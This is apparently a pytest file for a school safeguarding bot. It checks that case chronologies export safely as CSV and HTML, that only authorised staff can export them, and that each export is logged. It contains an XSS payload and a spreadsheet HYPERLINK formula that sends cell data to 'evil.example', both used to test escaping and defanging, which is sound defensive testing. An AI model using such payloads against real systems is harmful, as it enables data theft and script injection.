"""Exporting a case chronology (CSV and a printable page) over real HTTP on loopback.

The case is handled through the chat on the same bot; the export is signed in like the web chat.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import select

from bot.app import Bot
from bot.delivery.spreadsheets import safe_cell
from bot.reports.service import read_answers
from bot.server import create_app
from dialogs.text import shown_text
from storage.models import Event
from tests.support.alerts import DSL, file_concern
from tests.support.harness import Chat
from tests.support.reports import event_kinds, only_report
from tests.support.walk import STAFF
from tests.web.chat import Socket, items, open_chat

SCRIPT = "<script>alert('x')</script> AB showed me messages in the class group chat."
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
Client = TestClient[web.Request, web.Application]


@asynccontextmanager
async def serve(bot: Bot, email: str | None = None) -> AsyncIterator[Client]:
    """The real application on a loopback port; signed in as `email` if one is given."""
    async with TestClient(TestServer(create_app(bot, run_scheduler=False))) as client:
        if email is not None:
            response = await client.post("/api/web/login", json={"email": email})
            assert response.status == 200, await response.text()
        yield client


async def handled_case(bot: Bot, *, done_at: str = "today 10:00") -> int:
    """A concern the DSL acknowledged, noted, acted on and closed, through the chat, each
    answer given only to the question it is meant for. `done_at` is when the action was done:
    beside the real time (a sign-in test), "today 10:00" is in the future before ten."""
    await file_concern(bot, what_happened=SCRIPT)
    case = (await only_report(bot)).id
    dsl = Chat(bot, DSL)
    await dsl.click(f"case:ack:{case}")
    await dsl.click(f"case:note:{case}")
    dsl.assert_asked("note")
    await dsl.send(FORMULA)
    dsl.assert_asked("summary")
    await dsl.click("__submit")
    await dsl.click(f"case:action:{case}")
    dsl.assert_asked("action")
    await dsl.click("police")
    dsl.assert_asked("details")
    await dsl.send("Called 101, ref 12345; officer to visit.")
    dsl.assert_asked("done_at")
    await dsl.send(done_at)
    dsl.assert_asked("summary")
    await dsl.click("__submit")
    await dsl.click(f"case:close:{case}")
    dsl.assert_asked("decision")
    await dsl.tick("referred_police")
    dsl.assert_asked("child_views")
    await dsl.click("__skip")
    dsl.assert_asked("support")
    await dsl.click("__skip")
    dsl.assert_asked("reporter_told")
    await dsl.click("yes")
    dsl.assert_asked("outcome")
    await dsl.send("Police are visiting the family.")
    dsl.assert_asked("reasons")
    await dsl.send("Threats in the messages: a referral was needed.")
    dsl.assert_asked("child_dob")
    await dsl.click("__skip")  # the child's date of birth (optional)
    dsl.assert_asked("summary")
    await dsl.click("__submit")
    dsl.assert_reply(" closed.")  # "Case <reference> closed."
    return case


async def press(chat: Socket, value: str) -> list[dict[str, object]]:
    """Press a button in the web chat; the answer to it (alerts pushed meanwhile are skipped)."""
    sent = uuid.uuid4().hex
    frame = await chat.send({"id": sent, "type": "action", "value": value})
    while frame.get("reply_to") != sent:
        frame = await chat.next()
    return items(frame)


async def exports(bot: Bot) -> list[dict[str, object]]:
    async with bot.router.sessions() as session:
        found = await session.scalars(select(Event).where(Event.kind == "exported"))
        return [{"who": e.actor_email, **e.detail} for e in found]


async def test_the_dsl_exports_the_chronology_as_csv(make_bot):
    bot = await make_bot()
    case = await handled_case(bot)
    report = await only_report(bot)
    rows = (await read_answers(cipher=bot.cipher, report=report))["rows"]
    async with serve(bot, DSL) as client:
        response = await client.get(f"/api/web/cases/{case}/chronology.csv")
        assert response.status == 200, await response.text()
        body = await response.read()

    assert response.headers["Cache-Control"] == "no-store"
    assert response.content_type == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert f"{report.reference}-chronology.csv" in response.headers["Content-Disposition"]
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert table[0] == ["Confidential: safeguarding record"]
    header = {row[0]: row[1] for row in table[1:10] if len(row) == 2}
    assert header["Reference"] == report.reference
    assert header["Reported by"] == "Tom Brannigan (t.brannigan@example.org)"
    assert header["Reported at"] == "2026-11-24 10:30"  # the school's time (GMT in November)
    assert header["Status"].startswith("Closed")

    start = table.index(["Question", "Answer"]) + 1
    answers = table[start : start + len(rows)]
    assert answers == [[r["question"], safe_cell(r["answer"])] for r in rows]
    assert SCRIPT in [answer for _, answer in answers]

    heading = next(i for i, row in enumerate(table) if row[:1] == ["Date and time (Europe/London)"])
    lines = table[heading + 1 :]
    assert len(lines) == len(await event_kinds(bot, report))  # every entry, this export too
    whats = [line[2] for line in lines]
    assert whats.index("Added a note") < whats.index("Recorded an action: Referred to the police")
    assert whats.index("Recorded an action: Referred to the police") < whats.index(
        "Closed the case: Referred to the police"
    )
    assert lines[0][1:3] == ["Tom Brannigan (t.brannigan@example.org)", "Sent the report"]
    assert lines[-1][1:] == [
        "Alice Hartley (a.hartley@example.org)",
        "Exported the chronology",
        "Format: CSV",
    ]  # the export is in its own record
    (note,) = [line for line in lines if line[2] == "Added a note"]
    assert note[3] == f"'{shown_text(FORMULA)}"  # as text, never run; its address defanged
    (action,) = [line for line in lines if line[2].startswith("Recorded an action")]
    assert action[3] == "When: 2026-11-24 10:00\nDetails: Called 101, ref 12345; officer to visit."
    (closed,) = [line for line in lines if line[2].startswith("Closed the case")]
    assert "Outcome: Police are visiting the family." in closed[3]
    assert "Reasons: Threats in the messages" in closed[3]
    assert await exports(bot) == [{"who": DSL, "format": "csv"}]


async def test_a_cell_that_starts_like_a_formula_is_kept_as_text(make_bot):
    bot = await make_bot()
    await file_concern(bot, what_happened=FORMULA, pupils="-1+2 @everyone")
    case = (await only_report(bot)).id
    dsl = Chat(bot, DSL)
    await dsl.click(f"case:note:{case}")
    await dsl.send("+44 7700 900123 rang: " + FORMULA)
    await dsl.click("__submit")
    async with serve(bot, DSL) as client:
        body = await (await client.get(f"/api/web/cases/{case}/chronology.csv")).read()

    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    assert f"'{shown_text(FORMULA)}" in cells  # the address defanged, as shown everywhere
    assert "'-1+2 @everyone" in cells
    risky = [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert risky == []
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "ok", "")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "ok",
        "",
    ]


async def test_the_dsl_exports_a_printable_page_with_everything_escaped(make_bot):
    bot = await make_bot()
    case = await handled_case(bot)
    report = await only_report(bot)
    async with serve(bot, DSL) as client:
        response = await client.get(f"/api/web/cases/{report.reference}/chronology.html")
        assert response.status == 200, await response.text()
        page = await response.text()

    assert response.headers["Content-Security-Policy"].startswith(
        "default-src 'none'; style-src 'unsafe-inline'"
    )
    assert response.headers["Cache-Control"] == "no-store"
    assert response.content_type == "text/html"
    disposition = response.headers["Content-Disposition"]
    assert disposition == f'inline; filename="{report.reference}-chronology.html"'
    assert "<script" not in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "Confidential: safeguarding record" in page
    assert "@media print" in page
    assert "Exported by Alice Hartley (a.hartley@example.org) on 2026-11-24 10:30" in page
    assert page.index("Added a note") < page.index("Closed the case: Referred to the police")
    assert "=HYPERLINK(&quot;hxxp://evil[.]example/" in page
    assert await exports(bot) == [{"who": DSL, "format": "html"}]
    assert case == report.id


async def test_each_export_is_recorded(make_bot):
    bot = await make_bot()
    case = await handled_case(bot)
    async with serve(bot, DSL) as client:
        for path in ("chronology.csv", "chronology.html", "chronology.csv"):
            assert (await client.get(f"/api/web/cases/{case}/{path}")).status == 200
    assert [e["format"] for e in await exports(bot)] == ["csv", "html", "csv"]


async def test_staff_are_refused_and_the_attempt_is_recorded(make_bot):
    bot = await make_bot()
    case = await handled_case(bot)
    async with serve(bot, STAFF) as client:
        response = await client.get(f"/api/web/cases/{case}/chronology.csv")
        text = await response.text()
    assert response.status == 403
    assert text.startswith("Only the DSL, the deputies and the headteacher")
    assert response.headers["Cache-Control"] == "no-store"
    assert "Police are visiting" not in text
    assert await exports(bot) == []
    async with bot.router.sessions() as session:
        refused = await session.scalar(select(Event).where(Event.kind == "refused"))
    assert (refused.actor_email, refused.report_id, refused.detail) == (
        STAFF,
        case,
        {"action": "export"},
    )


async def test_not_signed_in_and_unknown_cases(make_bot):
    bot = await make_bot()
    case = await handled_case(bot)
    kinds = await event_kinds(bot)
    async with serve(bot) as client:
        anonymous = await client.get(f"/api/web/cases/{case}/chronology.html")
        assert anonymous.status == 401
        assert "sign in" in await anonymous.text()
        assert (await client.post("/api/web/login", json={"email": DSL})).status == 200
        for key in ("99999", "OS-2026-99999", "nonsense"):
            missing = await client.get(f"/api/web/cases/{key}/chronology.csv")
            assert missing.status == 404
            assert "could not be found" in await missing.text()
    assert await event_kinds(bot) == kinds  # nothing was exported, nothing refused


async def test_in_the_web_chat_the_button_gives_the_links_and_opening_one_exports(make_bot):
    bot = await make_bot()
    case = await handled_case(bot)
    report = await only_report(bot)
    async with serve(bot, DSL) as client, open_chat(client) as (chat, _hello, _first):
        viewed = await press(chat, f"case:view:{case}")
        (history,) = [i for i in viewed if i["kind"] == "card" and i["title"] == "Chronology"]
        assert history["links"] == []  # a view offers the export, and gives nothing by itself
        assert {"value": f"case:export:{case}", "label": "Export the chronology"} == {
            k: v for k, v in history["actions"][0].items() if k != "style"
        }
        assert all(i["links"] == [] for i in viewed if i["kind"] == "card")

        (card,) = await press(chat, f"case:export:{case}")
        assert card["title"] == f"Export of {report.reference}"
        assert card["links"] == [
            {"label": "Printable chronology", "href": f"/api/web/cases/{case}/chronology.html"},
            {"label": "Chronology as CSV", "href": f"/api/web/cases/{case}/chronology.csv"},
        ]
        assert "Confidential" not in json.dumps(card)  # the file's bytes never enter the chat
        assert await exports(bot) == []  # the page records the export when it is opened

        response = await client.get(card["links"][1]["href"])
        assert response.status == 200 and (await response.read()).startswith(b"\xef\xbb\xbf")
    assert await exports(bot) == [{"who": DSL, "format": "csv"}]


async def test_in_the_web_chat_someone_who_may_not_view_the_case_cannot_export_it(make_bot):
    bot = await make_bot()
    case = await handled_case(bot)
    async with serve(bot, STAFF) as client, open_chat(client) as (chat, _hello, _first):
        (refused, *_) = await press(chat, f"case:export:{case}")
    assert refused["kind"] == "notice" and refused["tone"] == "error"
    assert refused["text"].startswith("Only the DSL, the deputies and the headteacher")
    assert await exports(bot) == []
    async with bot.router.sessions() as session:
        found = await session.scalars(select(Event).where(Event.kind == "refused"))
        assert [(e.actor_email, e.detail) for e in found] == [(STAFF, {"action": "export"})]
